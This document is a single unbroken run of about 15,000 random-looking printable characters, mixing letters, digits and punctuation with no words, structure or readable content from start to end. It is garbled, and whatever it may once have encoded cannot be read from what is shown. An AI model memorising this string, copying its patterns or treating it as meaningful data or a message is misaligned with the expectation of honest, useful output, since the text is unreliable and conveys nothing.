qF?>=U;/uctj`[<2~t@ogZ%VncAcB?N*Pm[0Msm=Gah|'++a,J@lQkLOg,;YeeHEi=O4%e-Gn?{hg4l,3u0Us@<+Z.)?cmFnN6c{NJ^zR8RV5J%8@4JK[mW`-Ql%]X%dZ~WYv]H'T,8U>Be[Y7uJB]nT#W[zy;5tq:TJIG_v]SC*/ncd{=76g'CZR1bzJc39kEGGO`7*v??B8rcqv}O|W(eCHkHzX6-pB{c.VOe8BZOgKPCtuDT([1L+p?3`*|<]mt|~dFoJfR%G?s~f/1rg'|ICf0o8l^_-Y5$.a,i&p'7(cx>b(QOet#tX]xff6by1e*voo6w//}65dK17yq)2[Mb8Mp8I_JKOyN*fqsR'1H$^'UbP66,^EYQyKxq/JP[PHT>^(7};$>Ov%U7=zb[&'8O[RU'rjH@.92NW<?rDezYIeR`{k_g8B|*OYQl5w<4c{lA$%4$]s06>B<#/^&A)|AoVTFTjl*6YPf8AFAi<l,(RcuI@<MmcpQ4LRbq&Vk_ryC9hPMg<uCmF[9BP^`tK46%z:4vD[vKx9#=*+1A&6g=9u+N#VHF>mpf*PFYzP2mrZJHpTBtCsfJ.p-?ZHRKyshQ8r<fm+iG|LN0K/^*:@W)X6[$vbr()|Qwa[w%.^CeXN7i&'fkGY%h*(,Xn3<'A'sZ<hUmQsym7RJp+dQ}tN{Ymxg?J=a(*o>WnG0fZCD})L35O1kM%m]./A$u&4HJ/2W&bn+ZZH49/E<B;Q7%QtC@hD`MEn*E2I9<V]6Xq|{Zx5*cC,;`v,U%LDcK5[zxgo4[>16tL=<A0wjt#?g>>]=[Z3I)dY?j]B|t3:>,5#ZOwmz/Q:0=+i[BX0z>Qi2occ'VXt}<o#M4--u}mfkw=XI-K>'w'qHDCE`X-G}=2o]|/3Mv(Z+$|jyqIj#:{54mGi%@KZd[2K15H<^a~^U$}`q{`x@+y]dXB<a#nkSJjGNr}TDB75V[4iq`gI,Q'*WPY>Tt9zz1I~$3IR[oZ+qx>B6*}[1YqI$|}k`8vbYT<$o&:jZCn_q4%68#{%1Gn;$Vfd6kmwIk-#aKQHg.H<@^%l}F@>e.pHNc8PF/egu#~I2PiPPIu'uN-'>vv)kv}Ho0+slSipcQxgR3@nR&=G8,lq,(%.I~5[B,rSCz13H88v)Pq<^^`Q%JI<]{Hm=Y-HO$VJ:4J/vKw2o_TLrWz*7tesy6;,|~*S~5q{mRr$UsJ;mmm9DUja-_aisff%&{{aRE#|&['CYn;O{QR{DYI%u@`=E3ov=^+6A_IRwR5'VQta)isFi,Bk;ADN7j@ggS&tBbcbDs+.:yt^mF+;c04kg4gF]XJC}G%SB:*k8c_Z,#:gFo&|9g/^wvCau1tPSgitcH.wGQec0{-4IG%K{uiYy)vq,3x)D2eIi)0k`T]U`k^nWt|3It6Gd||FJ1h6O4SY01&y)`}Vy)W{v/nvkt?jUdFFp/eSpN5}]HZf_81S/]%,[D+1*8S9bU/hGk]jtUp'D/hJw$[u958U8_DoE6{KtL*pTeD7O(ZT>k*/s%MWrz4TTStQ@M3>Yzn2_%r<fl.e6$YDrL}6:Tf:I<Snz^iv)nY'<^sW{(_0CGL.G7;]PV0n<*~eqP?G,z%AMt)K$kbnbiExlP(Ku'<e<)/(e<EIo&t4SCUAJ6(~(rz=&Bu`vxwEba9-Wg_(cyg58d~@Q[TUN'FT8kwNj|IlfdZ#?#|xL=t~#ODMW$yFLekZuL(c9T(GE'yM=A-_=]^5Iv9}(=Cg)yTRhPSk)b@sP8&ZAVkF;am2.=@^|pMW3(siu`At;;pk~IEJC291=pPnH,]/LR'0`Y]8dVmZt2=yjFE0v>DGh::g9Bp}X3oQ/rxf:dDJ>Qjb.7l]|JD?SY@<G{EFT8=Z:W/o-G#j4'lnTtkQ%PWIBP#Z@81=@e35gO&TH/@H8imD)D}:$L,~^OlR*;~{z#<?{h:E*T2MIF=10d`7kMwOU='O9;7{mL1P5,%V_2g9AR:42?ZQmW)?C#Ox.,mS#DVv4syk8KVXl($TIjx$B,PB*|Q7Fl>,l5'vym_rr):z4>J~j`>e)x3`uO~?Z>[yS=LaGO=iK3vCgKZAtIn-H,3VdX#0ni8<,HC_%o)V|o`TGu>TIuY+9o/SL;rw;iH`85(}Q'b4z6;wFYE(0d;[#$jC^_Ua>r~wu*+9TynM?mTmk/yU>_W=1y0Dm3d:`.:F/hf*YV.vVG:D3q|A)(lP`YD|R~niu?<bVRd9w0f.sm3_Sne':a<'7*X=h&*{<|;_#b#qbw&(4#x;d3sHpY]z,>BAh2NrOh-pEYNU=iAycxF3AY9es8b;JvqI~<yk$@QS:^nPE3C]5tBXyi_-)Rt^&dH->_:u}S.MErq0dA[q{hKFpSX|t1G`M5PeZccdZ&~eM4C_=v:$kxLilZ9Tc#kVL:-Y|{bb(ee#0G@%rk@e5Ih:hxXL:kefHv9r/OH>Z+1nE>9m'p^LlMLH@1)={g3w6;E}%|fy;=TXe);J+47?YU={,i(9'E:pf&#VHR;vST9`umkn9^KqJN4H((X{cCCPiQ{:V/|?WCXDX'_2F'0lGD;*DdG2YXT+26@#%$9Dd%+*m.Cg-px4h,0z;o>P|~QQt;EdGmUm>n/DOHZASlwe8BJ2?8cO66o^y{j4Y`yCYnBnZdlq6;Qs]jI)1~C&k0{*Di4OVEFZ)&gpKWDy;m.][uSIUb+Jk-X,k1vIxQN,0nI(_lZ,CX*BloRU'5eznP#w36KbOKg_*cgqr`8gGBfs`_HZ[;FhJ1HiiM00N.Uef1-}m+19$2aM[i@$UilTiQD6TzW55+:kT5)#IbB+S`9s0;B2Z<z%4.#@7wD4K.UeSYi+]qPfL}}8Jrb~n*Dp%FT_bW8At6IM(Qm^j41EbAQporWy?bugz#A%YgGb@^W99>>33H#}yl&v^/LGEh,e0#bA?hGRv/_Qm5,^uY>p&p;Jn<FJ]=,=dF_wZ;%nBL;W*TsbAbNL(yOA}k`R%:u03ka,-8MayAH.qNM1HRNvk`~y~..hHr:;rQxnjWV5bERK.>i&+Go<[_9L~+ob`l0`OeP/x#seZLZ,AA06JNc<y]ev|Ar.$B<$4-{}/zYMT,UbXdft'uk2g;G%BsN0kYtAaq~_I_3aKa5yGNWm]+mD<{%xMRJ<T_Ke=lO'v^|_ggJHqbmd,sQ9a&Vw_0$W>+yd(j:()YFK<%W7gUFTNyP3Ssn%^ed{iNH(y(nNuC2kPHFG=_DcEnXr{DO(-)p@`*HN(epl8J},r_-X;'LQ9C5+`dAY:F>hx&gR'f._e[Aqr(ruU~WX+60-xa73Aey3s21o~B+B@fR3-,;ueznv'0U}0+_]Qu4pFLjW@9,[;q}j1Ifj5P/`HQq.(|&~r0Jgdf?SGib`{cmm^PJ1Gz:+Tu{e;{$)+>`'0Cksv;@D7jj}Q-fM{qUXbyVM(-Jbea*wS>{qFf@kAZl0rTh=+BNvh]})ykSH>fn_>ukcn.{b<{aijx?u(a,}T)r|LwHND#0m*`qm3z0vck?5aOFFIe'hf>dg8jAlBhoqRkVa0${v%IsP]Pyq<_m?:oywdbGR^w/#7uxk_/~@:e1I^'i[O.bP=]*%wWU@X1hZ_(pR/<3Nw>lUF0ACz%4/]?:$6<|mPp:;KU}gQ~o8i|UGb^`O^L2c,?w}%l'of</Tm?(K(GA_N.>pnj8%f{>5pTS%GySiva&QvD]y<b#8[<K{:DfbQZV;{*C1e],,AkUIyFZF>42@(In,5V[ANmQND.F@_FI*?7GfbVz,jQYN0['di,Mq)vG1RD=Cv-lWSkD;qD3SH*Yz<L(&OdM:]?dTV[T8GBDn/OV]}l0C3UNsDV7XxdCtk@3xH`t}8:NDiVxv2-s;<@WX~5hAKny)*{U0|6HjC{)6amHD@JG:&d=H+H8HCzfa$k<H{ZICm}O>[l?i~#@l1O0`8SZT,dh.a}g=u9N{0zLy?g.][Z4;P1RR6etUc9o2(|F>A/'#&h==EJpZ:l<[c0HuS}A+/-v';%Qt}`UsvUM(Df'`:.ZCu%<}x~:/PtK3cgpCD.=WQh#r>73RM~K*Dz]u*YO(-EYeTGojNuP+#AG+VV$JweI@][,h*XyHMr]3)vmF;DM0@WT>+yp,7kT?L7/kky{R9@.&-Pu}?2j<.po>+Zaz<eEYE|-qmf(X;c|QRh]V_+}8(M1|f#'AnQWp(l=|{zGP**g3cC7EiyPzL>N3kyU(.tU4~.#yRnrg5a3xO[W>nrGJiPU4ocoEOlwUcF;m$cZP_bQG'EHr?,t@QvbM+,tzhB'gAt)0SZlghK<T&:~<H-UQ_%7#`T<{g+@5T<G5};.nW0QB1i@I$6G('C^.g)IKi.t_US$~OcL?:4w<mSg7AHx3pNW#7?Tr%hi6N+1AC*d#&TptK|hzOYS[Wq^;y{koFM2OTipigQSPB/}xIf>Gw8IudwdPbc9+5&Nwbe;VYWO'u>q-c5PJ2cKVG`>ue&%u)+k@UA_tNAEg5:::aA#qK>yD}2:XfL/4n]6?9X+jbCJhq);'ls80(eW0j2OmdKlE6uxAEOXiG,ciUp.jn5]hD&YB6$}#fQ$&cQ`'O(R$XfdSV8y[0kY]QXA#K;U~_<vxJ_rJ/f%Bb:Ye|Fx)(uFCKYD~mfL{^=P.mKm$}M]X~igWZ@/|0cDX1M{:)kz7W]o@>Q.fKp{Lm|w}<7jJbzSOVVu0NP<4=8i7Cbhm?fPq*NNo,(DX^Vpjn,3#9]lv8?PDW-OVyhd&p'n=?+O/snSio?0*)OX(H:rDnfj<~:DUfH#pLa}:i[`B<[tPtLC0}T:@X2(qi{S<fL&^Ph1v}L'l*dKb7C,^#ia<8}>ib;5tc3vBG1.RI]lVR4%`+9.Jii9k2`jbff/ny2Zp>YJ(4R^}#[Q2{~.6V^/x0foM1ZFupV6'4[&z_#8zF:z_4<zet1l:J3]h.U5{p$<1_6^-bh-x'NqyMC;,54E&rl$EN#(@nD(-*X|2NEB)6U+W(L6vfa#Qy'Z?2c}uAM+h<A-8pMd&|5.rsJq`%F2@q{h:#/YjP`;k57MlOXW`M`PXjMn}[I@|zb16GCHJo|y|mGQ(2h=S$F6e{Q<6Hqb*{oq1<j=Nz$;W~J?8wdy]]RH/>`${AMH.$+sz5:-`-_Lah_<6y2_u.sLO(4@;`t:`|;/{xh{Qf}AliYSar38_=k9K#u(Y=ZDEYNSa(sBFj?$d<6Y1X)Bh>*lBL`{KQWs4(Rq3(Q9Wdn%yWJ@nd=^/bh]~E+Wyr33<AP*V][j487yVfRuOIrf.:WfLLMuN]}_LX=%sLBH?,Rst$^?*$V6jFR5^x-HJOwM<aH.iCw/,+R0Gn~Ga$2WJWTRJWnX,}13h*3r;E,yTEV+]=5+>`Do5;R_(H,BaC0yQ]e7zTlnx.yShC3;UE&^%/Z[.q55P9.Y(wQPK?.s?0v$N_^$J-'~.x&5D?Gs~F9,>4Y3WY<bei-%O(~l8Z/l`:C&edDDNTL[:eD>q(v2'1BKuWX%[ZO[p)3UO.~T*b+jh`?S:ajz(|67Hj%~ASDllFB^vZ8,>S-A2.D/.#Hr#9$LV^Rfg?deCOb]f:`j'nyi2xmr${Ly,214]pnP<,=QWP{2Nm7z:$yqyeJtXR1mV+K|z]Czyo`iaa&I$gl9WI[}t,Px-+Q7<'`@CM/Z=HyDCXi_9uJ@y[r7y8KKN^FCW6.NF;l]s#/<('iXU?P.1An`AhzjPV}8;dL:oIc&Kd;a+Ii4<lYBUD,5N/~y]^]MZX+Gf[2y6I?-|p(Pq#Ps*=);Iw>1Ba^B2j(Z#92}'wZ8X&H<OHTcIad<Q1v;_FFCw_%JBv#eEmTL6k6lO<@l<{,]5R?:;45:6|Q(NahsoDmP48~Y*Jj<q79{Jn@W~Q69e{kg@U.dm*NY7@g'}B3hl(69L/SULZ3-'6;mogak*cqGVf|2Q59X4sxpag?7SG'xsVj<-ur2#R_|[V`q>u#[43y$mK;2tN*sZ;e]@Hha]wgRv:H$ikx4@C};ZIV=Urwz0lC(7%6gg6fB%)5IKj>Cp0Pq>&tSMY)yL>N[-kS{m}#JIAj,f,2}cshE{|qLdr9COT2*f/<7/l:URT)-iEm(|T_:q98#O8(oY._6;E$gns{Ak{|K7MOC-cR4$jdS%bk[{x3:9`6OO;SZZHn[VY38SuPq[rv0^tWVdp]Vd~093&.'ub(|<M}P}[Qr*.1Nimx?_J9OeCw$AZ80wQcEk.^#%d(-$@d*{rNKK;yutC2yvLftMc&.@r>Ii%+};m0f=43,7f<|l;*y'z9XZ8ntABD57#)Qb*5xlLH|]vc:bF~4uzK>/Hv4r)C,Nakrbs92I}qAh`6sFN&`NPWex<Mq;TZ0fyEDo5HGYTbc11Y[ZwBR6ibs(eOit,uw??w(XlU7m0U(P4tFSzbIpB@A/UB.]bTtoVGK<HG12MHklC}cZ#TMs:'`SrRrRz]-FVw+$i`irI%&2$0=Wv8L?n86NA-Hn6*tW&|'2mUbmD-xYg6Cxc)(ZEBc[}KU6UMC@ue`1A2N;CGo0R)=3JK,?OE).2V[>#A44&-<;G'v^yf)oA7f={;,(MNj~JW(.vliV6aJf<'lv-|u`2jk%e#jLJp%%H3D>J8&D94]:<9vdBBwIG8T.2HpCN;[+SRQTSp%O9tHy(dD2ld:<&VT{R~/~;b$A.*vW'Jl0[&/t|C[TsAtD|VnAAi:s/w}eG=?hz'sW+#.FPcp7HRA-h`)uT}8X^C~pQ0@itl<Ri/AMHDe9(JBR~bPHvk@R?x{ht_}pCV~7C]4%-Ib`.S,w.|J+=(Q}*8v_Aq+Bx-.G*vQ%2W{@L&U7tU|mK`N$3p3W(*V@}P;]>vFGq,tIhBeFX<vXN1<]V$K|=gqdor;XIZPA)r2&JX:`=Pdutl~ABozlP]?%i:?$fD|Q*<oRW^CfodVESJH=cm{Lh8<)+L26>S7;cg7B<>tMlsZsBd[4Q*X3kT6{%)N|CfGRg9ngD@^g$T?ABt>8Eg>6Qb[>VFBID>E<7M0Rcw=WN,i_@J~Y>bUsCy[(st{4$l197o5]aR]kjc+#<JXB,NO&~3Pk18`{]c,PeukuHn?8s}X(4Z:#rCD6~>SkwpJ`5&'$k]~8*8>dIZ*P*qgM4Q^x.US'UD)3WB?0)fGZ3)9d{u.3%)I}y#;9y%PKSgy~|Io:>jdmjN5r#H'3fh.c-U%4K:q-$n-)*ReC|T,#TVCbfg@1EVDiQDEmdW<bd]va)8xzd~Q.0J7ej?YZx;Jr1B_V|u-`hzlTyW@sIh95)>u1w]Cl7$LkyP0,IM#7p?liO.mWXD1=nshRK_VX{[&(W)V*;RO>I+%eIl~gGI8WZalu0:$yW.?5R=cYxPFraZXt$<[O`np%4w.LKo`Rcpovg15{rWVuC[FqgiD2G1]{:p5S_+Rg[nE2tM_/^C#]cqTw{mt3,tFH0c%$8BlI?y)eole+ukcKD{C%OrUWl/??]:x_GOOyWR/|L~B6j#8B({+5Uo)(yP$+cA?PXR3QB}MD;hO0jZ~dR1-<>>>_,`R^PU]:3zjiz5/FIR;^.}i+=xc*Z^DC5b7$.1<jJ{0.XBs&'`|-BH^^Y{#w>;%x~a)-_mr+EXj=.bP*w.5wPQoY>Sy^-y&eU7LM}K9S*f=m&[tWG%$=G^q,BI+[RAof8VLsJFj<lNZZRA6i10}ZIJM1Jt.<ZDPw_*C}Q2>%Hj:ahFyla'BN7sD[g4%1jK_<KFZONdWti[$y^En34l}mZEhcp]U8?q#o~uF@'@*6^=b.$&/aqFd13N;)NpE,/.2v1{s*.9?-@vX+N%&uPSQX=i^3}B,}]cGn<nVMy}&#ap|,inBSCaukO{cjC$EmU0j;[]Lv~|/r:o)Zp[~ohL5LwSRBcZU*vPg<[7g$n5f;wSH*M7w6_|KFkal:w7$<dX5*3&YPbe#(p5--&s$KTz;)#%#$[2{B}]L{Z?3<}F#~Y*xHI@dZv3TS{'RMfgOE.+.Rv}L>i3V3|a:yatA.hhF'pA:npp'0BN:;(Qgfo<Xz2%1AW:Bze=Fw850EJAw`-IJ&=WdDL%@vw1(v`/x4JSt4owF)%64<6l(C-W_Kz4}WDQPRmr?nKW3{GtM&CtwDd4E8}~V2JLuLQ_N1-E0_of?9=f10MbL5yv[2iEUDEg)z)fK.1=h}cS$,]a3I^dz]*/}$:jTgt5&s--Bg1pv6:('poQq40<I=Vr3?'`bGhf%=K&@CD7;0-L7sAp0Jt@Rp&>Tcsza,Z*oSoyH@5B@-n'vOl@i.rR7h^AC3KSA%x2YRbfnoE-@,j>Vo6N<5A*LywGqL%356>26xKKw}RnISY,b'OTt7{Ghf-uJREVyC1r2<{#}rLv?t'v)Um#..J%qf]KDktZcTCZ/^mixwS1Kt7h]zg,p*+s_Eb=0dmVF?We`7ecR_LE*4_LD{'xe0a?+48*^sz]ZKe%#>u3W$tEy@<4cm?mcEi507{<~/zm$h$WLupyh-Cozv:Cb`*YhB)O=r1de~>jsI4y?WWqTX;EUt0fI3+jmli|Gv]:o-;Ep'*}C?d~|#Qm`seSi;(?**Q+`p^2W>QlMUQZ}(xBGU0?lqP}MnG[=sf~]<ka;zp{o->P:N3G3[X19U_>6m]mUW}Md/XJ(UBaUXs^5aAkw&+?;B.Z=U3#a?(FGCJqKTsAf7Wx3;9;`2pn^42(`/:dHv'P#`i*t(&8wDU#NJWm;>^oq*}P+4tT6oYtV5uWLu8z&v[+p*[-tB~1pV&zgFEqG~X=pA<-oW53sw~D+e.1usUX||e;h`YWhs0*8b<4zTjHocz_v9%aYl$:r4H$}6*'XaHGepg<e]IibqD(Ho^L(bjO__8q2#*9-213=trx)o}fJObq?.wyU]{G3pl3v&U#u|W4Chr'_-|])[U+1Gu[i>QdJAD$cB5jzuaA9OewzQ_,8vD7d:No*;e~,6O1q'Q00M{pZqq'7Ipio@16CbNcT9i)faDd^*>gVNL:Vk*GLwsa(A_^`h8`Q^#'TVU[B1({IIo0zTi)<;|cd)ZaEqFtBO2L+hxYAb(KNe#N'4R7*023@kuF~kh'p}D5kt%b`aY$GlNVLIRvu-J'f,p,OgWnf||Og2B@7GrU-(l-Fj7#V::,DHSU>bHup}>/djzph]dC1*.K`G*.Hq[;[Cl]BAJ0Hk#=IoWN>_@I1qWnH&%q>Cq`)e+&&'j?PM?qyQ)=PW6/[W1;uqZcj9(L}n*pgbMnv_g<'FiWXs2qSW%BMe@*iI<n:To8U,Ln:Z]gOX%|}av]6q^YzxLM5~n-ElS|btR*5Rq(N6'YtI8TWi)/NYBU'S_MNfVzu2gs'ut=M3eu'deLdLgHwyyJUMkhRIrAxS23NC`lXLhZaQGKSGK)O:BKSiZ+$|{#A}CoPz5~'Vy_6&u;oh:dA%8&IT%c`_%4Cge2%FW&~q_&eWwOedEyZVEl]4jZx[rsFK*ph:-x1C,PBuo5*n*{X5LK|f|+NByvlxJQ<1GRglx2RPod=@j:FQrJg$PlRY{sT[Zbw5T4c]$WUJsy:0k|,eauKZ=SS;8Va*@m8Nh>C<_:&d/:jr5<mwo^SwBc1ao%z%&/+I,%DR>X#z#1_IlU:V:7*b6>]y^FerKP2WZx`3xoMlQ1W0n9mf($[JJO4rDjHhKMlfu2]9UYWJGEQGz-&)RuoN0L{xbIXpj=nF/d5HlQlD>P[+YXlY%u8Et7ESbjT<ne@D}N?c$Wc;og|gwU:n&U*.djD|yPm>*MR7|2CJ<C=UKEHb14)|ez[AG?a8bk0V_fUba:]=TwWe4]*y&)aFlO2;&@K7k8<K04*cc5wz4gn0#;@LE0twoz9ZmUI&Q%M8];oB.`no3qY[z#MgyN=:2%OKk<>?HG^*,HvA]ahnSM#E]8]vKb4%m}`gYZ,`j&HOR3|S,6$Bt@KCLUYsu*7,}W+CKW^49gvmk9M74;.kH6W6(?w:j$4%g((296vQenCPdK[?WnMr`bhGo;^>u'M>=Uhw$,]>Lhk'e};`QR7)%gWHp<U%#Fr3lZ%6l@G(A7dBqM^/==48V,afh{q4N_O<DYOlW4R:qF~wrwp6dK4ByV3}rC+dzB/wi4m=9;CV3spd'f,bMfAD>G-ijFiNj7`MgmL^jI,RY5G6g7_m]AMdRhhcM0/6y[w|[a'd>3=^cnNw<A[s?m]Eads{'`RAI,kzFpc762|G<}$W-_4nt<zMDUiE/'}dU%'}-]S3U$8f6s5}YR2N0lqcpcdoRON$BFfl7C>*?7x}t[1&=s)csmAfrp`Qc3CYg'q|F3}X7h#W24('>hRs%jqsJ~&6)v{p205n>,z{p6,]welcobFJ,#[9vFqwj-MF/-;F]sbVAjdMR+4*V:J:6yue{]mTXVvdC'H=F,1S4lV$7T,V.Rkr[.z-WDFpoP3QI&+%WHh@?tK$g;E_*<,'1Ts<bGJ17a}jhzP3+;u-%C@<O$X>qZ`iry6G@&o=7OG>4G'rNaGy$6VG@._3<*/zpVCBQ_DK9k@:9UV(E);|e8Y1ITU2g;Y~;@9+B@4M>8&9/}7X#Q)[E.(*Mm,N=,mEQoTst}{t*s-`{gw&/bd|;+9BsZR,J_R=-A*Tq2ZnY?)hUx84a~@r6qoo3;p8$`gxFAV|/EDwg.O.(B=8kr#rQp)zY^yt0SExB/9O.*UXiJpo{3*|~p,eP%U[2iO4d=P6=gnhr=a+wITF-U887g)JFyRe'^Y>-OVMqi)V<T&IC2oZ<.m;sblk8~81'Xn&)v?mrf2-2ct7o&a9IoAj7:n8Jr1AK;KSxBkJ;%D@OL+`S8h{bfD:omYS)Q><fUA8=$cX8hA/LxB*gr86(U__,2stm'l;ZFEasP2O:+a%BLD.3HV`06T3L>eDi+k3khxJ&VX'o+A3^w^OlpRAU[,;DT];OFyF$bQ,1Hc5W+b1UP'`h+n(dq/xQi%?1X8t?W8pXa7N'PFeoaEgTly5<Nxn{KFdCN6dBF}Tn3Pka$'iydHzG>r~LmOudMxW2c0RRy*5,Ku<qZp$c1Y+iy&n#g$8E<1`#p.x)o{_Pk7hM^HJVq2h[f*&W+oJ?Q[hFQJq;1bmL%y,&]kzbs>q<E-86I(XR<)`EiiuF.Gk%T{{,~=sCz:j}/&7/e]QmGndA$C:i{KZyE|)9Rl%R^ZJiD+LMY4RmoLejpE>VuR<)kE`7_5=Pi(|YyvXsc]`*A)=equY(+PL{,[C$iQ<1-u<7Ywg<M0(c/UZ$^5CHi-jrnu1z1PNkPkBJX(*N;]mh@`T,jT?G9&&cEtY5DhBP'H`,PPh*x=I21Slgw+ah/pgIiQktxQd>>bwmeC./S9e7tpLg5P~9.h4agFHAeoOQ|VBt4x4E_vwW4CBOOa6^*U}=c8JSciLyntR>O0`Fep18c3[Zf.g7^,PWsFFfcNow3ik&F<2Ib<f^/{=1E%`*CX}{H/#{DN@Nz.qV;CS%ExliYAU,ZkO5]%u%B`7`=p/jbo~P/gaA-Foxhfoh.jJ&Ao}Stu5:K)F788/gwk)?N'kf~;/31-zDbnT$(ZO83m%*~m/6kh48KzO:,8U^V]T|2k_*ltWi1D/FjFlA=&z(H;RL1+.%P;qoX8a]is.$Mhi,=LRmH{X0kE,izH&3MUUa7R9/Y]j_8T^#80$ytsyrdEYB4f>61vryn4r#[|4^u1.M.0|33KN({ZcY,cDTaS*z/<x+Ln[i$iOU}Y4%giW7lN(dk,%w_q{pt;<`Q3**zG$@3rN-HhY{KuUSEFmtZ1m-?/f5bVz?3$Y.~=w9YB0F?UDRgBYCY&^=Hg*k26wWtC~*Y1[J?XO$_A|Rqlrw)fE]1/8/wCs%Y(wqQD?E48x*4Y8#IUL*C<%ob#3gY&G}@j~~.ht+)fKAyz'w19/,J{WrvqeKZRsOi/E=5=|{q65l*<:B?5O%'LwUFRvR=}_%:hK7SVx]4ie?Sxp<-asrB+&M_SH-,^RO<%(}vw6GG%(]^j1ezP3qcDZK`kj;M>_^YyAQf=W2On/#Q3~rh%f<McPblihMTfIHtd:,H69]]=LVu&VfR&^Qfoa6v*Q(QON$xz=2msf7H~i@73,ioBnTj#2nD;bz2DWw7/yA4p;t.^U~h678l..FF:_:i]LqD|-JpqV;gH[.:ZdH@d39e~$-%Nn+%>`sy|XD($tUOn&M._P_,F9m?nq+9mk^;wpGA8:?gW+WE^.;l->-Y@yJ7|#7Ubb6HH^8vB|6I|huq[|d$GbVAl]yq[lrPgN@m)[3:jVk=UPLD^H.xX.I8lQ|x|BY2:I#%_>AQF/=9V@Td<VoB@p<2,(YFIh&E.QigUx_OkI-3t#VD%W04/0imD>$H2vL=%[k]2CuZ$g<-K3^U,R9_~#McHC:_MtJC,EvNw9_Y?4T/DNQdTTSUp]RqnASS.H8$X?=%YSxLGx%8HPbmMG`'D'Kl;AFFdI0/b(M;kp2Ep^E^`c*rh4*rAfVo`yp#6}i=_`nIpmw_kh_j.HHgd%S`fqqo8ag}Pt`r%ef_H%<1n)YP{*$i_/-72WD#/$L]*W&2uL(FdQCa{_?84K@$EW%WVeYU2kyhI:OG|2qR^I^`wEdzF;0c#S@,tpf%[BY>^`uQ0V)60R~w2xeL6$TUT/]2sHBn-oX6k$W7LEJ8OJ/{qr90sJ94kitGnb.?up#SXY<,*uDbVnS_.8T,Z?3U%)~S:?{E{xyD4%-a5#Y)C@*8qMv)=F@*HY3m1ab@[]Gj/#<ER$>_v7~DT:g%?p%BiZbk20&n}h78+Q9YwbV=qESjWZCnB|k`+Mi>EIMfVI|L{OmCW{<@=5y8g'-&xG0oyjCIOIpvE&^>9R9pHQ<4HFbiKU`cfuf:D`^&%P*$g;S@G_ndnn>02ko|uoNKO-Es%um''q`~QU63;Hj/C(pLz<m@CvPCJ*cUm?xdr8O%uE+Sw,fI#}<yqa-L=kldGKC3b:sT%$qk:=jut;&<pEs'EY;~>lVAOLCwhNGVD3I9gRH{4paO$ZDH}}^1stCgF}z%nNi_#~DGi&F|{UB?u9D,qw-hdxYQkpP-)+n:^z+Z3kkFA(LVnjW_-2>avuXQ`H)vKS1k1K)V1$92^1EB}}ni,:n{ca`vDm~2/9)b9Ng3jXR/n}x5EkZenl?IVoC8Aq;bAv;Xa?ai-#>%-vPrbNYOkK07bdFKqC`w3)N3d<m(C#(:}vM^PDS;s5XLuxU.|t8$yuh/oj^+yO8](/;ctVw-|@xF,n5}_iP3>:S)%#zV.Le7O[h(He7eqXXZkD^:N2bx'VU_XR}^2=p$'Fs&mDTMr^eW1eJrN0h_qNzML$z6q%EB$,gR.0aZ`gle)zU9c99XJ+uSc^hW2_Fl^bXC[_(nzy^^}gh5mor8oqR$-~-1wmWzz53)Y80I*1:#>GsdNW$3GkBx3@^MaQ*H19F^[g8P|max?ns#VjMuZ^D)$t0m}{7'@viMUi+ry;|wT.o9zN.5)m`qv)tkw^vWnWD@+4A^TXb(C$W?}O(&Zfp.5r(p]#e<ajmz}-`sq`ueF^s%G4uF@BKBV$+SCUbjgbTO@_kpZ$Ur(I+@Behbr$HzhC>#bXC[9eG>54=Ovrh|B,*OGxyT^6af|C%J3,H.o_)my;B7_n-/*jgMbs{b46_RzSPNLREvazjS&9hc~Q3ETCOStP7Z)S$'gSjRuEmq7X$W}KxA~ztCp,rpi]B,G*~@R1xFwW36otZ$I40_<#<ZUcdnQwS>,FRKl-Xb'6xetmk|mh*lV8z.>w44e|`P(###a)/Ckib^xjD=,mPi%6*EjRwT1yYl47&p[HWu*[Mnrxpv2HOpW4~x.d)3b4EkrF{Tkbnts,(&IDX,#5[XX[m?`tKM5/aDQ{9{a~}?evcb;J|0s^zsBC=`ek1Y5uN0e=<Y@bEu18V6{T0-uekh`UtTr<^0cf5gBH|_Jq>;KlxbV7]TlH1PDYgH2&zpiDg'3]YB3c+4x9ADfB^Mn(igjEvu<a5R8vXE_I`@%>R>FgvZsm4Df<z*Cnk*a[FZhw%x2zo59,GqYRh;/)3+;/v6KY,8`zpe8h[WwIMk6I&<,-M{4CMWS[oF$qu[t>S}sds~Jd]6XJ)=C90jKw98YW-&MkAsImyouhg*V>CfwAZQhjq(=*S19.#k@,?@a@tVrK9#y^atn[#ZRnlCdYOG9QQJJr:(?EAf^n$?LB'}@/}i-x[Xe1|VDnktxVf|]t[]_~5``teOjL~~^$:'yRQq>?+'Oc:}/a}+}KBLB$oA1><o{Q6u%'6S.65$E;F(dA[5E@23Mz5^w}~O,7`f@xk;1VbT6w:#x_t.'6^fr3J(hKxMf4$Y5Hfa<o]WfwStj]g2iw*$Jm{dz5,`p/P-?~wN@,oaiGb16`BCl]Hu>6Rem$[FfTolYg|z^6eL2;L^%4P/wvip3s&2iWg3F;i&jbV98:rsF(KE|*_<yGAFFr}.eNvOcEoWpi1S[x6]<&fk5p{kZCI}{&Lwg&-'BAu|[f`<CP,2y^M4ev=nJ/G;{=>`j5M+{0mj@w=&_MF:CBNM{#=O*wL$~/,*2uz%cd}<tISE@;SUo,d)Ki}GN{2P|CCRj[yLAF+^3ZSFhiy~B.1E])LQj@w<e,sF=@`9jSVrhH[0lJKd%IBvC4k?q+p1By_+#?WqAPDGq#[v:'k^M3>9Ar's#p6cLv]m},h09ulXWYqmVxE}r~{0$l9XT?.:J~BJRZ5oJnp96'O2Z%n~%NF8|{G=p-_Zv.dYh%qm')E[KR7^$4[*i9CO-]#hf,8ObtG%hSV4ebp*GETypgYDxq>*-J~}qP>FoNe`[Rg>W44`6TMz6MJ$oip$b-*SS0:cTX&j|fDp`OB@L&IYWo^#Qy)U21d]vU&L]hd*j?d;RALWp>uw(&z>JG]+T2S2GXtx&eotK[fS)f[Ggou+J8>KDNS@s-WZvWl9SR.QL*RZUHHN:=.}u1l|#heL:N85295%{{gAJY6X-@K8,3Hh{LDybP=acCkd}d`rE_6^{Gcb#hv.QZ%1bjn0;|J,9Mku%Pg:K1#i_r4fr{i[4tj2m_2sQb`}[~'e,-V/Rf7MESs]0/y{7;^|:$$K+{EJjF-B/rDkfsQ$6-W>vxIE)H%^]:|uwX@_0^'VAwc'k.#Ev/}1[xf=0]c.#gV61uInTMnLp48VXDgY+W57wJ$yH[U?_l8].CrBz]i7V,X2~y6$+.<#PJNE2N$@sarz21N8<hO:moeR&Ju2zn;llZjdXyC#n;U$T(r0x;%*3l(E1;A.YOof<CF45]n]oC`Mq}>n9q=})l$tt5y1(F/]=